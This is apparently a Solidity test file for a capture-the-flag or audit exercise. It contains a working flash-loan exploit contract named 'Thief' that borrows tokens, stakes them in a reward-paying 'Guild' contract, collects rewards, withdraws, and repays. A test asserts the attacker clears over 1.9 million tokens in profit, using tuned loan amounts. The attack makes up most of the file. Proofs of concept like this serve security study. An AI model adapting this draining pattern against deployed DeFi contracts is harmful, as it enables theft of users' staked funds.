// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Guild} from "../reward-accrual/src/Guild.sol";
import {FlashLender, Token} from "../reward-accrual/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Token private immutable crown;
    Guild private immutable guild;
    uint256 private first;

    constructor(Token crown_, Guild guild_) {
        crown = crown_;
        guild = guild_;
        crown.approve(address(guild), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount, uint256 first_) external {
        first = first_;
        lender.flashLoan(this, address(crown), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        guild.join(first);
        guild.joinFor(address(this), crown.balanceOf(address(this)));
        guild.collect();
        guild.leave(guild.stakeOf(address(this)));
        crown.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract RewardAccrualTest {
    event Profit(uint256 crowns);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    FlashLender private lender;
    Token private crown;
    Guild private guild;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        crown = new Token("Crown", "CRN");
        vm.prank(admin);
        guild = new Guild(crown);
        vm.prank(admin);
        crown.mint(address(lender), 10000000 ether);
        vm.prank(admin);
        crown.mint(alice, 1150000 ether);
        vm.prank(admin);
        crown.mint(bob, 700000 ether);
        vm.prank(admin);
        crown.mint(carol, 350000 ether);
        vm.prank(admin);
        crown.mint(attacker, 40000 ether);
        vm.prank(admin);
        crown.mint(admin, 60000 ether);
        vm.prank(alice);
        crown.approve(address(guild), 1e60);
        vm.prank(bob);
        crown.approve(address(guild), 1e60);
        vm.prank(carol);
        crown.approve(address(guild), 1e60);
        vm.prank(attacker);
        crown.approve(address(guild), 1e60);
        vm.prank(alice);
        guild.join(1100000 ether);
        vm.prank(bob);
        guild.join(600000 ether);
        vm.prank(admin);
        crown.transfer(address(guild), 20000 ether);
        vm.roll(block.number + 50000);
        vm.warp(block.timestamp + 7 days);
        vm.prank(alice);
        guild.collect();
        vm.prank(carol);
        guild.join(300000 ether);
        vm.prank(admin);
        crown.transfer(address(guild), 40000 ether);
        vm.roll(block.number + 50000);
        vm.warp(block.timestamp + 7 days);
        vm.prank(bob);
        guild.collect();
        vm.prank(alice);
        guild.restake();
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief(crown, guild);
        vm.prank(attacker);
        crown.transfer(address(thief), 20_000 ether);
        // See reward-accrual/optimum.md.
        thief.attack(lender, 6_057_995_555_553_116_900_200_000, 2_024_997_777_776_558_450_117_488);
        uint256 profit = crown.balanceOf(address(thief)) - 20_000 ether;
        emit Profit(profit);
        require(profit > 1_900_000 ether, "no profit");
    }
}
